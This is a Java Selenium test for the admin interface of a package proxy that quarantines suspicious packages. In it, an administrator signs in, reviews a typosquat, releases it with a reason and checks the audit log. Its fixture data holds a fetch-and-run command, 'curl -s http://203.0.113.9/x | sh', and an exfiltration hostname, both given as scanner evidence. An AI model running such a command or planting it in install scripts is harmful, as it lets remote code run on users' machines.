package dev.airlock.proxy.ui;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.airlock.proxy.cli.FakeAdminApi;
import dev.airlock.testing.Requirements;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.Keys;
import org.openqa.selenium.OutputType;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * The admin UI in a real headless Chromium: sign in, find a quarantined version, release it with
 * a reason, and see it allowed and in the audit log.
 */
class UiBrowserTest {
    private static final String TOKEN = "ui-test-token";

    @Test
    void anAdminReleasesAQuarantinedVersionWithAReasonAndSeesItInTheAuditLog(@TempDir Path tmp) throws Exception {
        Requirements.require(HeadlessChromium.available(), "Chromium and chromedriver");
        try (FakeAdminApi api = new FakeAdminApi(TOKEN, new UiRoute())) {
            var held = api.put("npm", "left-padd", "1.3.0", "quarantined", "typosquat", "name imitates left-pad");
            held.putArray("findings").addObject().put("rule", "install_script_network").put("severity", "high")
                    .put("source", "static").put("message", "install script downloads code")
                    .put("evidence", "curl -s http://203.0.113.9/x | sh").put("location", "package.json:7");
            var phase = held.putObject("behavior").put("runtime", "runc").put("image", "airlock-sandbox:test")
                    .putArray("phases").addObject().put("phase", "install").put("status", "completed").put("exitCode", 0)
                    .put("durationMs", 2875);
            phase.putArray("dns").addObject().put("hostname", "exfil.example.test");
            phase.putArray("commands").addObject().putArray("argv").add("sh").add("-c").add("node install.js");
            api.put("pypi", "reqeusts", "0.0.1", "blocked", "known_malware", "MAL-2026-0001");
            ChromeDriver browser = HeadlessChromium.start(tmp.resolve("profile"));
            try {
                run(browser, api.url() + "ui/");
            } finally {
                screenshot(browser, "audit-log-after-release.png");
                browser.quit();
            }
            assertEquals("override_allow", api.audit.get(0).get("action").asText());
        }
    }

    private static void run(WebDriver browser, String uiUrl) {
        WebDriverWait wait = new WebDriverWait(browser, Duration.ofSeconds(20));
        browser.get(uiUrl);

        WebElement token = wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("token")));
        assertEquals(token, browser.switchTo().activeElement(), "the token field has focus on arrival");
        token.sendKeys("wrong-token", Keys.ENTER);
        wait.until(ExpectedConditions.textToBe(By.id("sign-in-error"), "That token was refused."));
        token.clear();
        token.sendKeys(TOKEN, Keys.ENTER);

        By fixture = By.cssSelector("a.version-link[data-key='npm:left-padd@1.3.0']");
        wait.until(ExpectedConditions.elementToBeClickable(fixture));
        WebElement search = browser.findElement(By.id("f-search"));
        search.sendKeys("left");
        assertTrue(browser.findElements(By.cssSelector("a.version-link[data-key='pypi:reqeusts@0.0.1']")).isEmpty(),
                "search filters the queue");
        browser.findElement(fixture).click();

        wait.until(ExpectedConditions.textToBePresentInElementLocated(By.id("view-title"), "left-padd 1.3.0"));
        assertTrue(browser.findElement(By.cssSelector(".state-quarantined")).isDisplayed());
        String page = browser.findElement(By.tagName("main")).getText();
        assertTrue(page.contains("typosquat"), page);
        assertTrue(page.contains("install_script_network") && page.contains("package.json:7")
                && page.contains("curl -s http://203.0.113.9/x | sh"), "findings with evidence: " + page);
        assertTrue(page.contains("Phase: install") && page.contains("exfil.example.test") && page.contains("sh -c node install.js")
                && page.contains("2875 ms"), "sandbox report per phase: " + page);

        browser.findElement(By.id("action-allow")).click();
        wait.until(ExpectedConditions.textToBe(By.id("action-status"), "A reason is required."));

        assertEquals(0L, unlabelledControls(browser), "every form control has a label");
        // Keyboard only from here: type the reason, Tab to Allow, Enter, Enter on the focused Confirm.
        WebElement reason = browser.findElement(By.id("reason"));
        reason.sendKeys("reviewed: a fork with a fixed CVE, not a typosquat");
        reason.sendKeys(Keys.TAB);
        assertEquals("action-allow", browser.switchTo().activeElement().getAttribute("id"));
        browser.switchTo().activeElement().sendKeys(Keys.ENTER);
        WebElement confirm = wait.until(ExpectedConditions.visibilityOfElementLocated(By.id("confirm-ok")));
        assertTrue(browser.findElement(By.id("confirm-title")).getText().contains("Allow left-padd 1.3.0"));
        assertEquals(confirm, browser.switchTo().activeElement(), "the dialog focuses its confirm button");
        confirm.sendKeys(Keys.ENTER);

        wait.until(ExpectedConditions.textToBePresentInElementLocated(By.id("action-status"), "Done: allow left-padd 1.3.0"));
        wait.until(ExpectedConditions.visibilityOfElementLocated(By.cssSelector("main .state-allowed")));
        screenshot(browser, "version-page-after-release.png");

        browser.findElement(By.cssSelector("#nav a[data-view='audit']")).click();
        wait.until(ExpectedConditions.textToBePresentInElementLocated(By.id("audit-table"), "override_allow"));
        String audit = browser.findElement(By.id("audit-table")).getText();
        assertTrue(audit.contains("npm:left-padd@1.3.0") && audit.contains("reviewed: a fork with a fixed CVE"), audit);
        assertTrue(audit.contains("quarantined -> allowed"), audit);
    }

    private static long unlabelledControls(WebDriver browser) {
        Object n = ((org.openqa.selenium.JavascriptExecutor) browser).executeScript(
                "return [...document.querySelectorAll('input, select, textarea')]"
                        + ".filter(e => e.offsetParent !== null && !(e.labels && e.labels.length) && !e.getAttribute('aria-label')).length;");
        return ((Number) n).longValue();
    }

    private static void screenshot(WebDriver browser, String name) {
        try {
            Path target = Path.of("target", "ui-screenshots");
            Files.createDirectories(target);
            Files.write(target.resolve(name), ((org.openqa.selenium.TakesScreenshot) browser).getScreenshotAs(OutputType.BYTES));
        } catch (Exception e) {
            System.err.println("screenshot failed: " + e);
        }
    }
}
